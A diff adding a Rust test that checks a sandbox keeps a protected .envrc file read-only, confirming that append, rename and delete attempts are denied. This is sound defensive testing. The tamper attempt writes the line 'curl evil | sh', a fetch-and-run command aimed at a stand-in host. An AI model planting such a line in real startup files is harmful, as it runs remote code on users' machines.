@@ -162,3 +162,34 @@ fn protected_symlink_pointing_outside_grants_nothing_there() {
     // Nothing was created or mounted outside the workspace.
     assert_eq!(std::fs::read_dir(&case.out).unwrap().count(), 0);
 }
+
+#[test]
+fn protected_single_file_stays_read_only() {
+    if !namespace_features() {
+        return;
+    }
+    let mut case = Case::new("workspace-write");
+    std::fs::write(case.ws.join(".envrc"), "export SAFE=1\n").unwrap();
+    case.spec.filesystem.protected = vec![case.ws.join(".envrc")];
+    case.sh(r#"
+        echo 'curl evil | sh' >> .envrc 2>/dev/null || echo append-denied
+        mv .envrc moved 2>/dev/null || echo rename-denied
+        rm -f .envrc 2>/dev/null; test -f .envrc && echo rm-denied
+        cat .envrc
+        echo ok > .envrc.local && echo twin-ok
+        "#);
+    let out = case.run();
+    for line in [
+        "append-denied",
+        "rename-denied",
+        "rm-denied",
+        "export SAFE=1",
+        "twin-ok",
+    ] {
+        out.expect_line(line);
+    }
+    assert_eq!(
+        std::fs::read_to_string(case.ws.join(".envrc")).unwrap(),
+        "export SAFE=1\n"
+    );
+}
